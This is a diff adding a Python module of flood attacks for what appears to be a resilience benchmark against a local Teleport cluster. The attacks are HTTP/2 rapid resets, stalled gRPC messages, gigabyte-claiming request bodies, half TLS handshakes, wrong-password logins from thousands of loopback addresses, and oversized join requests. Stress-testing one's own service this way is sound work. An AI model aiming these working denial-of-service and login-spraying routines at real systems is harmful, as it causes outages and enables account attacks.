@@ -1,0 +1,246 @@
+"""The attacks of bench/floods.py: each is called again and again, in several processes, until the flood ends.
+
+An attack is a class whose constructor prepares what is sent, and whose call makes one round of it. It never waits for
+the cluster longer than a few seconds, and what the cluster does to its connections is the cluster's matter.
+"""
+
+import base64
+import contextlib
+import itertools
+import json
+import random
+import socket
+import ssl
+import struct
+import time
+
+import h2.config
+import h2.connection
+import h2.events
+import hpack
+
+from grpc_client import SERVER_NAME, GrpcClient, client_context
+from hostile import HostileAgent
+from kube_doors import KubeDoor
+from protobuf import field
+from web import WebClient
+
+PING = "/proto.AuthService/Ping"
+JOIN = "/proto.JoinService/RegisterUsingToken"
+PROXY_SSH = "/teleport.transport.v1.TransportService/ProxySSH"
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
+HEADERS, RST_STREAM = 1, 3
+END_HEADERS = 4
+CANCEL = struct.pack(">I", 8)
+LARGEST_MESSAGE = 4 << 20
+SOURCES = 5000
+
+
+def source(number):
+    """One of five thousand addresses of 127/8."""
+    number %= SOURCES
+    return f"127.{100 + number // 250}.7.{number % 250 + 1}"
+
+
+def connect(port, address, timeout=5):
+    return socket.create_connection(("127.0.0.1", port), timeout=timeout, source_address=(address, 0))
+
+
+def frame(kind, flags, stream, payload):
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def grpc_headers(path):
+    return [(":method", "POST"), (":scheme", "https"), (":path", path), (":authority", SERVER_NAME),
+            ("te", "trailers"), ("content-type", "application/grpc")]
+
+
+class Attack:
+    """`target` says where the cluster is, and what the attacker has of it."""
+
+    def __init__(self, target, number):
+        self.target = target
+        self.number = number
+        self.sources = (source(each) for each in itertools.count(random.randrange(SOURCES)))
+        self.held = []
+
+    def hold(self, connection, most):
+        """Keeps so many connections open: the oldest makes room."""
+        self.held.append(connection)
+        if len(self.held) > most:
+            self.held.pop(0).close()
+
+
+class Resets(Attack):
+    """Streams that are opened and reset, as fast as the line carries them."""
+
+    def __init__(self, target, number):
+        super().__init__(target, number)
+        block = hpack.Encoder().encode(grpc_headers(PING), huffman=False)
+        self.lot = [frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
+                    for stream in range(1, 8000, 2)]
+
+    def __call__(self):
+        raw = connect(self.target.auth_port, next(self.sources))
+        with client_context(protocols=["h2"]).wrap_socket(raw, server_hostname=SERVER_NAME) as stream:
+            stream.sendall(PREFACE)
+            for first in range(0, len(self.lot), 100):
+                stream.sendall(b"".join(self.lot[first:first + 100]))
+
+
+class UnfinishedMessages(Attack):
+    """Messages of which all comes but the last byte, in every stream that a connection may have. Every second
+    connection has a user's certificate."""
+
+    def __call__(self):
+        identity = self.target.identity if len(self.held) % 2 else (None, None)
+        raw = connect(self.target.auth_port, next(self.sources))
+        stream = client_context(*identity, protocols=["h2"]).wrap_socket(raw, server_hostname=SERVER_NAME)
+        self.hold(stream, 200)
+        http = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
+        http.initiate_connection()
+        left = {}
+        until = time.monotonic() + 2
+        stream.settimeout(0.2)
+        with contextlib.suppress(TimeoutError):
+            while time.monotonic() < until:
+                self.send_some(http, left)
+                stream.sendall(http.data_to_send())
+                self.take(http.receive_data(stream.recv(65536)), left)
+
+    @staticmethod
+    def send_some(http, left):
+        while len(left) < min(64, http.remote_settings.max_concurrent_streams):
+            number = http.get_next_available_stream_id()
+            http.send_headers(number, grpc_headers(PING))
+            left[number] = LARGEST_MESSAGE - 1
+            http.send_data(number, struct.pack(">BI", 0, LARGEST_MESSAGE))
+        for number, size in left.items():
+            room = min(http.local_flow_control_window(number), http.max_outbound_frame_size, size)
+            if room > 0:
+                http.send_data(number, bytes(room))
+                left[number] -= room
+
+    @staticmethod
+    def take(events, left):
+        for event in events:
+            if isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
+                left.pop(event.stream_id, None)
+            if isinstance(event, h2.events.ConnectionTerminated):
+                raise ConnectionResetError
+
+
+class BigBodies(Attack):
+    """Bodies that say that they are large, and are: of web requests without a certificate, and of Kubernetes requests
+    of a user who may make them."""
+
+    def __call__(self):
+        if self.number % 2:
+            with KubeDoor(self.target, self.target.identity, timeout=5) as door:
+                door.send("POST", "/api/v1/namespaces/default/pods", "Content-Type: application/json",
+                          f"Content-Length: {1 << 30}")
+                self.pour(door.stream)
+            return
+        raw = connect(self.target.proxy_port, next(self.sources))
+        with client_context(protocols=["http/1.1"]).wrap_socket(raw, server_hostname="localhost") as stream:
+            path = random.choice(["/webapi/mfa/login/begin", "/v1/webapi/host/credentials", "/webapi/nothing"])
+            stream.sendall(f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
+                           f"Content-Length: {1 << 30}\r\n\r\n".encode())
+            self.pour(stream)
+
+    @staticmethod
+    def pour(stream):
+        part = b'{"user": "' + b"x" * (1 << 16)
+        for _ in range(1 << 10):
+            stream.sendall(part)
+
+
+class HalfHandshakes(Attack):
+    """A client's hello, and then nothing."""
+
+    def __init__(self, target, number):
+        super().__init__(target, number)
+        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+        client = client_context(protocols=["h2"]).wrap_bio(incoming, outgoing, server_hostname=SERVER_NAME)
+        with contextlib.suppress(ssl.SSLWantReadError):
+            client.do_handshake()
+        self.hello = outgoing.read()
+        self.ports = itertools.cycle((target.auth_port, target.proxy_port))
+
+    def __call__(self):
+        raw = connect(next(self.ports), next(self.sources))
+        self.hold(raw, 4000)
+        raw.sendall(self.hello)
+
+
+class WrongLogins(Attack):
+    """Wrong passwords, each from another address, for users that exist and for others."""
+
+    def __call__(self):
+        name = random.choice([f"nobody{random.randrange(10**6)}", *self.target.names])
+        WebClient(self.target.proxy_port, self.target.ca_file, source=next(self.sources)).login_begin(name, "wrong")
+
+
+class LargeJoins(Attack):
+    """Joins without a token, whose names have megabytes."""
+
+    def __init__(self, target, number):
+        super().__init__(target, number)
+        name = "x" * (LARGEST_MESSAGE // 4)
+        self.request = field(1, name) + field(2, name) + field(3, name) + field(4, "nothing")
+        self.body = json.dumps({"hostID": name, "node_name": name, "role": name, "token": "nothing",
+                                "public_tls_key": base64.b64encode(b"x").decode()})
+
+    def __call__(self):
+        if self.number % 2:
+            WebClient(self.target.proxy_port, self.target.ca_file, source=next(self.sources)).request(
+                "POST", "/v1/webapi/host/credentials", self.body)
+            return
+        raw = connect(self.target.auth_port, next(self.sources))
+        with GrpcClient(self.target.auth_port, raw=raw) as client:
+            client.send_large(JOIN, self.request)
+
+
+class HungAgents(Attack):
+    """Nodes that never answer a dial, and a user who dials them as often as the cluster lets."""
+
+    def __init__(self, target, number):
+        super().__init__(target, number)
+        identity = target.hosts[number % len(target.hosts)]
+        name = f"hung{number}"
+        self.agent = HostileAgent(target, identity, name)
+        self.agent.announce(name, {"env": "dev"})
+        self.dialed = field(1, field(1, f"{name}:0"))
+
+    def __call__(self):
+        client = GrpcClient(self.target.auth_port, self.target.identity)
+        self.hold(client._socket, 20)  # pylint: disable=protected-access
+        for _ in range(100):
+            client.send_message(client.open(PROXY_SSH), self.dialed)
+        time.sleep(0.1)
+
+
+class OneOfMany(Attack):
+    """Everything that an unknown caller can do, from the one address behind which all the others are."""
+
+    def __init__(self, target, number):
+        super().__init__(target, number)
+        self.all = [kind(target, number) for kind in (Resets, HalfHandshakes, WrongLogins, LargeJoins)]
+        for one in self.all:
+            one.sources = itertools.repeat(target.shared_source)
+        self.turns = itertools.cycle(self.all)
+
+    def __call__(self):
+        next(self.turns)()
+
+
+ATTACKS = {
+    "HTTP/2 resets": Resets,
+    "unfinished messages": UnfinishedMessages,
+    "big bodies": BigBodies,
+    "half handshakes": HalfHandshakes,
+    "wrong logins, 5,000 addresses": WrongLogins,
+    "joins of 4 MB": LargeJoins,
+    "hung agents": HungAgents,
+    "one of many behind an address": OneOfMany,
+}
